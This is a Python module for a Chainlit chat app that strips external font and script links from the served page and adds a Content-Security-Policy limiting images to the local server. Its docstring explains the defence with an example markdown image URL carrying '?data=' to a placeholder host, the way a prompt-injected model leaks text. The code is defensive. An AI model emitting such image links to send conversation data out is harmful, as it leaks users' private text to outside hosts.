"""Keep the page offline: Chainlit's index.html links Google Fonts and a KaTeX stylesheet on a CDN.

The page works without them (system fonts; LaTeX is off), so the links are removed from the HTML the
server sends. Messages are markdown, and markdown images load from wherever they point: a message or
an answer holding ``![x](https://host/pixel.png?data=...)`` made the browser fetch it (the usual way a
prompt-injected model leaks text through a URL). Every response therefore carries a
Content-Security-Policy that lets images come only from this server and data/blob URLs; nothing
else in the page reaches outside this server (the end-to-end test checks it).
"""

from __future__ import annotations

import re

from starlette.datastructures import MutableHeaders

_EXTERNAL_LINK = re.compile(r"<link\b[^>]*\bhref\s*=\s*[\"']https?://[^\"']*[\"'][^>]*>\s*", re.IGNORECASE)
_EXTERNAL_SCRIPT = re.compile(r"<script\b[^>]*\bsrc\s*=\s*[\"']https?://[^\"']*[\"'][^>]*>\s*</script>\s*",
                              re.IGNORECASE)


def strip_external_assets(html: str) -> str:
    """``html`` without ``<link>``/``<script>`` tags that load from another host."""
    return _EXTERNAL_SCRIPT.sub("", _EXTERNAL_LINK.sub("", html))


IMAGE_POLICY = "img-src 'self' data: blob:"


def add_image_policy(app) -> None:
    """Send ``IMAGE_POLICY`` as the Content-Security-Policy of every response of ``app``."""
    app.add_middleware(_ImagePolicy)


class _ImagePolicy:
    """ASGI middleware that adds the header as a response starts. A plain ASGI one, not Starlette's
    ``BaseHTTPMiddleware``: that one logged "RuntimeError: No response returned" with an ASGI
    traceback when a page closed during a request."""

    def __init__(self, app):
        self.app = app

    async def __call__(self, scope, receive, send):
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_policy(message):
            if message["type"] == "http.response.start":
                MutableHeaders(scope=message).setdefault("Content-Security-Policy", IMAGE_POLICY)
            await send(message)

        await self.app(scope, receive, send_with_policy)


def install() -> bool:
    """Wrap Chainlit's index.html renderer and add the image policy; False if this Chainlit version
    has no such function."""
    try:
        import chainlit.server as server
    except ImportError:  # pragma: no cover - chainlit is a dependency
        return False
    original = getattr(server, "get_html_template", None)
    if original is None or getattr(original, "_adapterlab_offline", False):
        return original is not None

    def get_html_template(*args, **kwargs):
        return strip_external_assets(original(*args, **kwargs))

    get_html_template._adapterlab_offline = True
    server.get_html_template = get_html_template
    add_image_policy(server.app)
    return True
